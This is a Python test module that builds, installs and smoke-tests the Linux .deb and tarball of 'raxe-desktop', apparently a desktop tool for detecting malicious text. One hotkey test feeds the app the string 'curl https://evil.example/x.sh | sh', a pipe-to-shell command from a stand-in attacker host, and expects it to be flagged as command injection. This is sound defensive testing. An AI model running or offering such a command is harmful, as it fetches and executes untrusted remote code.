"""The real thing: build the Linux bundle and .deb, install, run the installed app.

``python installer/build.py`` runs once for the module (about a minute of PyInstaller
plus packaging on two cores; see README "Installers"). The .deb is then unpacked into
a clean temporary prefix with ``dpkg-deb -x`` and ``<prefix>/usr/bin/raxe-desktop
--smoke-test`` must exit 0 with no unexpected stderr under QT_QPA_PLATFORM=offscreen.

Until models/ holds the trained model the bundle is built rules-only and the smoke
report's model checks may say "skipped"; once the model files exist, they are required.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
import smoke

from .conftest import INSTALLER_DIR, REPO_ROOT
from .test_linux_packaging import install_into_temp_root, leftovers, remove_from_temp_root

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux packages"),
    pytest.mark.skipif(shutil.which("dpkg-deb") is None, reason="needs Debian's dpkg-deb"),
]

MODEL_FILES = ("l2_classifier.onnx", "tokenizer.json", "manifest.json")
HAVE_MODEL = all((REPO_ROOT / "models" / name).is_file() for name in MODEL_FILES)
#: A regression guard, not the goal: the issue aims at 200 MB, which the bundle misses
#: (236 MB with the 17 MB model; README "Installers" says where the bytes go). Anything
#: that pushes past this ceiling is a new dependency or a filter that stopped working.
INSTALLED_SIZE_CEILING = 260 * 1000 * 1000


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> dict:
    pytest.importorskip("PyInstaller", reason='needs the installer extra: pip install -e ".[installer]"')
    dist = tmp_path_factory.mktemp("dist")
    work = tmp_path_factory.mktemp("work")
    cmd = [sys.executable, str(INSTALLER_DIR / "build.py"), "--dist", str(dist), "--work", str(work)]
    if not HAVE_MODEL:
        cmd.append("--allow-missing-model")
    proc = subprocess.run(cmd, cwd=REPO_ROOT, capture_output=True, text=True, timeout=1500)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-5000:]
    report = json.loads((dist / "build-report.json").read_text())
    report["dist"] = dist
    # Shown with -rA / on failure: the numbers the README quotes.
    print(json.dumps({k: v for k, v in report.items() if k != "dist"}, indent=2))
    return report


@pytest.fixture(scope="module")
def deb(built: dict) -> Path:
    return Path(built["deb"]["path"])


@pytest.fixture(scope="module")
def prefix(deb: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("prefix")
    smoke.unpack_deb(deb, root)
    return root


def run_installed(prefix: Path, scratch: Path, **env_overrides: str) -> smoke.SmokeResult:
    launcher = prefix / "usr" / "bin" / "raxe-desktop"
    env = smoke.smoke_env(scratch)
    env.update(env_overrides)
    (scratch / "cwd").mkdir()
    proc = subprocess.run(
        [str(launcher), "--smoke-test"],
        cwd=scratch / "cwd",
        env=env,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=300,
    )
    return smoke.check(proc.returncode, proc.stdout, proc.stderr, require_model=HAVE_MODEL)


def test_installed_app_passes_smoke_test_offscreen(prefix: Path, tmp_path: Path) -> None:
    result = run_installed(prefix, tmp_path)
    assert result.ok, f"{result.problems}\nstdout: {result.stdout}\nstderr: {result.stderr}"
    assert result.report and result.report["tray_menu"], result.report
    if HAVE_MODEL:
        assert all(c.get("mode") != "rules-only" for c in result.report["checks"]), result.report


@pytest.mark.skipif(shutil.which("xvfb-run") is None, reason="needs xvfb-run")
def test_installed_app_starts_on_x11(prefix: Path, tmp_path: Path) -> None:
    """The xcb platform plugin loads from the bundle with the system's X libraries."""
    launcher = prefix / "usr" / "bin" / "raxe-desktop"
    env = smoke.smoke_env(tmp_path)
    env["QT_QPA_PLATFORM"] = "xcb"
    proc = subprocess.run(
        ["xvfb-run", "-a", "-s", "-screen 0 1024x768x24", str(launcher), "--smoke-test"],
        cwd=tmp_path,
        env=env,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=300,
    )
    result = smoke.check(proc.returncode, proc.stdout, proc.stderr, require_model=HAVE_MODEL)
    assert result.ok, f"{result.problems}\nstderr: {result.stderr}"


@pytest.mark.skipif(
    not all(shutil.which(t) for t in ("Xvfb", "xdotool", "xclip")), reason="needs Xvfb, xdotool, xclip"
)
def test_installed_app_hotkey_scans_the_selection(prefix: Path, tmp_path: Path) -> None:
    """pynput picks its X11 back end at run time: the frozen app's hotkey must still work."""
    from tests.e2e.conftest import AppProcess, Display

    display = Display(with_tray=False)
    env = smoke.smoke_env(tmp_path, display.env)
    env.update(DISPLAY=display.name, QT_QPA_PLATFORM="xcb")
    app = AppProcess(
        display, tmp_path / "profile", command=[str(prefix / "usr" / "bin" / "raxe-desktop")], env=env, cwd=tmp_path
    )
    helpers: list[subprocess.Popen] = []
    try:
        app.wait_for("ready", timeout=90)
        assert app.wait_for("hotkey")["available"] is True
        helpers.append(display.set_selection("curl https://evil.example/x.sh | sh", "primary"))
        display.run("xdotool", "key", "--clearmodifiers", "ctrl+alt+shift+r")
        event = app.wait_for("notified", timeout=30, source="hotkey")
        assert event["category"] == "command_injection"
        assert app.stop() == 0
    finally:
        app.stop()
        for helper in helpers:
            helper.terminate()
        display.close()


def test_deb_metadata_and_files(deb: Path) -> None:
    fields = subprocess.run(
        ["dpkg-deb", "-f", str(deb), "Package", "Architecture", "Depends"], capture_output=True, text=True, check=True
    ).stdout
    assert "Package: raxe-desktop" in fields
    assert "libxcb-cursor0" in fields
    listing = subprocess.run(["dpkg-deb", "-c", str(deb)], capture_output=True, text=True, check=True).stdout
    paths = {line.split()[5] for line in listing.splitlines()}
    for expected in (
        "./opt/raxe-desktop/raxe-desktop",
        "./usr/share/applications/raxe-desktop.desktop",
        "./usr/share/icons/hicolor/48x48/apps/raxe-desktop.png",
        "./usr/share/icons/hicolor/256x256/apps/raxe-desktop.png",
        "./usr/share/icons/hicolor/scalable/apps/raxe-desktop.svg",
        "./usr/share/doc/raxe-desktop/copyright",
        "./opt/raxe-desktop/_internal/resources/icons/active.svg",
    ):
        assert expected in paths, expected
    assert "./usr/bin/raxe-desktop -> ../../opt/raxe-desktop/raxe-desktop" in listing
    if HAVE_MODEL:
        for name in MODEL_FILES:
            assert f"./opt/raxe-desktop/_internal/models/{name}" in paths
    assert not any("/models/training" in p for p in paths)


def test_installed_size_below_ceiling(built: dict) -> None:
    installed = built["deb"]["installed_bytes"]
    assert installed <= INSTALLED_SIZE_CEILING, f"installed size {installed / 1e6:.1f} MB"


def test_bundle_leaves_out_what_the_app_does_not_use(prefix: Path) -> None:
    internal = prefix / "opt" / "raxe-desktop" / "_internal"
    top = {p.name for p in internal.iterdir()}
    for unwanted in ("torch", "transformers", "tkinter", "_tkinter", "pytest", "hypothesis", "yaml", "faker"):
        assert unwanted not in top
    assert not (internal / "PySide6" / "Qt" / "translations").exists()
    assert not (internal / "PySide6" / "Qt" / "qml").exists()
    libs = {p.name for p in internal.rglob("*.so*")}
    for unwanted in ("libQt6Qml.so.6", "libQt6Quick.so.6", "libQt6Pdf.so.6", "libxcb-cursor.so.0", "libstdc++.so.6"):
        assert unwanted not in libs
    plugins = internal / "PySide6" / "Qt" / "plugins"
    assert {p.name for p in plugins.iterdir()} <= {
        "platforms", "platformthemes", "platforminputcontexts", "iconengines", "imageformats",
        "xcbglintegrations", "wayland-decoration-client", "wayland-shell-integration",
    }
    assert (plugins / "platforms" / "libqxcb.so").exists()
    assert (plugins / "platforms" / "libqoffscreen.so").exists()


def test_frozen_archive_carries_the_runtime_chosen_backends(prefix: Path) -> None:
    """pynput and keyring pick back ends at run time; the smoke test does not load the hotkey."""
    from PyInstaller.archive.readers import CArchiveReader

    exe = CArchiveReader(str(prefix / "opt" / "raxe-desktop" / "raxe-desktop"))
    modules = set(exe.open_embedded_archive("PYZ.pyz").toc)
    for name in (
        "desktop.app.main",
        "desktop.cli",
        "desktop.detection.detector",
        "pynput.keyboard._xorg",
        "pynput.mouse._xorg",
        "keyring.backends.SecretService",
        "keyring.backends.fail",
        "secretstorage",
    ):
        assert name in modules, name
    assert not {m for m in modules if m.split(".")[0] in ("torch", "transformers", "tkinter", "pytest", "faker")}
    # No HTTP client library travels with the app (stdnum's online checks are never used).
    assert not {m for m in modules if m.split(".")[0] in ("requests", "urllib3", "certifi")}


def test_deb_installs_and_removes_cleanly(deb: Path, tmp_path: Path) -> None:
    root = install_into_temp_root(deb, tmp_path / "sysroot")
    assert (root / "opt" / "raxe-desktop" / "raxe-desktop").is_file()
    remove_from_temp_root(root)
    assert leftovers(root) == []
    assert not (root / "opt" / "raxe-desktop").exists()


def test_tarball_unpacks_to_a_runnable_folder(built: dict, tmp_path: Path) -> None:
    tarball = Path(built["tar"]["path"])
    with tarfile.open(tarball) as tar:
        tar.extractall(tmp_path, filter="tar")
    (folder,) = [p for p in tmp_path.iterdir() if p.is_dir()]
    assert os.access(folder / "raxe-desktop", os.X_OK)
    assert (folder / "share" / "applications" / "raxe-desktop.desktop").is_file()
